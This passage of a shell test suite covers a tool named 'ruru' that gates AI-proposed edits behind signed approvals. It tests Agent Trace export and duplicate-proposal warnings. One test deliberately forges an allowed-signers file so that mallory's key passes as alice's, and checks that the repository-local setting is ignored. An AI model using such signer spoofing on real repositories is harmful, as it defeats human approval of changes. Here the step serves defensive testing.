	git config --global gpg.ssh.allowedSignersFile "~/signers"
	b=$(fresh); "$RURU" confirm approve --key keys/alice --as alice@example.org "$b"
	"$RURU" confirm apply "$b"
	[ "$(cat t)" = new ]
	# a repository's own .git/config cannot name signers
	git config --global --unset gpg.ssh.allowedSignersFile
	git init -q .
	echo "alice@example.org $(cut -d' ' -f1,2 keys/mallory.pub)" > evil_signers
	git config gpg.ssh.allowedSignersFile "$WS/evil_signers"
	c=$(fresh); "$RURU" confirm approve --key keys/mallory --as alice@example.org "$c"
	run -5 "$RURU" confirm apply "$c"
	[ "$(cat t)" = old ]
}

@test "export --agent-trace: one valid Agent Trace record per applied confirmation, ranges of the change" {
	git init -q .
	git config user.email me@example.org; git config user.name Me
	printf 'a\nb\nc\nd\n' > t; git add t; git commit -qm init
	"$RURU" new "Trace" >/dev/null
	printf 'a\nB\nc\nd\nE\n' > p
	a=$(propose t p); "$RURU" confirm approve "$a"; "$RURU" confirm apply --commit "$a"
	printf 'x\ny\n' > d.txt
	printf -- '--- a/d.txt\n+++ b/d.txt\n@@ -1,2 +1,3 @@\n x\n+new\n y\n' > d.diff
	b=$("$RURU" confirm propose --target d.txt --diff d.diff); "$RURU" confirm skip --rationale small "$b"
	"$RURU" confirm apply "$b"
	c=$(propose t p)                                   # pending: no record
	run -0 "$RURU" export --agent-trace || { echo "$output"; return 1; }
	printf '%s\n' "$output" > trace.jsonl
	[ "$(python3 "$BATS_TEST_DIRNAME/schema_check.py" "$BATS_TEST_DIRNAME/../data/agent-trace-record.schema.json" < trace.jsonl)" = 2 ]
	python3 - "$a" "$b" "$(git rev-parse HEAD~0)" "$(cat .ruru/sessions/.active)" <<'PY'
import json, sys
a, b, head, sid = sys.argv[1:]
recs = {r["files"][0]["path"]: r for r in map(json.loads, open("trace.jsonl"))}
r1, r2 = recs["t"], recs["d.txt"]
assert r1["version"] == "0.1.0" and r1["tool"]["name"] == "ruru", r1
f = r1["files"][0]
assert f["path"] == "t", f
conv = f["conversations"][0]
assert conv["url"] == f"ruru://sessions/{sid}" and conv["contributor"] == {"type": "ai"}, conv
assert [(x["start_line"], x["end_line"]) for x in conv["ranges"]] == [(2, 2), (5, 5)], conv["ranges"]
assert conv["related"][0]["url"].endswith(a.split("/", 3)[3]), conv["related"]
assert r1["vcs"] == {"type": "git", "revision": head}, r1.get("vcs")
assert r1["metadata"]["ruru"]["artifact"] == a
f2 = r2["files"][0]
assert f2["path"] == "d.txt" and [(x["start_line"], x["end_line"]) for x in f2["conversations"][0]["ranges"]] == [(2, 2)], f2
assert "vcs" not in r2 and r2["metadata"]["ruru"]["decision"] == "skipped", r2
assert r1["id"] != r2["id"]
PY
	# stable: the same records again
	run "$RURU" export --agent-trace
	[ "$output" = "$(cat trace.jsonl)" ]
	run -2 "$RURU" export
	run -3 "$RURU" --json export --agent-trace SESSION-nope
}

@test "the same edit proposed twice warns, naming the earlier proposal still pending" {
	"$RURU" new "Twice" >/dev/null
	printf 'old\n' > t; printf 'new\n' > p; printf 'other\n' > q
	a=$(propose t p)
	run --separate-stderr "$RURU" confirm propose --target t --content p
	[ "$status" -eq 0 ]
	b=$output
	[ "$b" != "$a" ] && [ "$(status_of "$b")" = pending ]
	[ "$stderr" = "ruru: warning: $a, still pending, proposes the same change to t" ]
	# another change to the same target, or once the first is decided: no word
	run --separate-stderr "$RURU" confirm propose --target t --content q
	[ "$status" -eq 0 ] && [ -z "$stderr" ]
	"$RURU" confirm reject --reason no "$a"
	"$RURU" confirm withdraw "$b"
	run --separate-stderr "$RURU" confirm propose --target t --content p
	[ "$status" -eq 0 ] && [ -z "$stderr" ]
	c=$output
	run mcp confirm_propose '{"target": "t", "content": "new\n"}'
	[[ "$output" == OK*"\"duplicate_of\": \"$c\""* ]]
	[[ "$output" == *"\"warning\": \"$c, still pending, proposes the same change to t\""* ]]
}
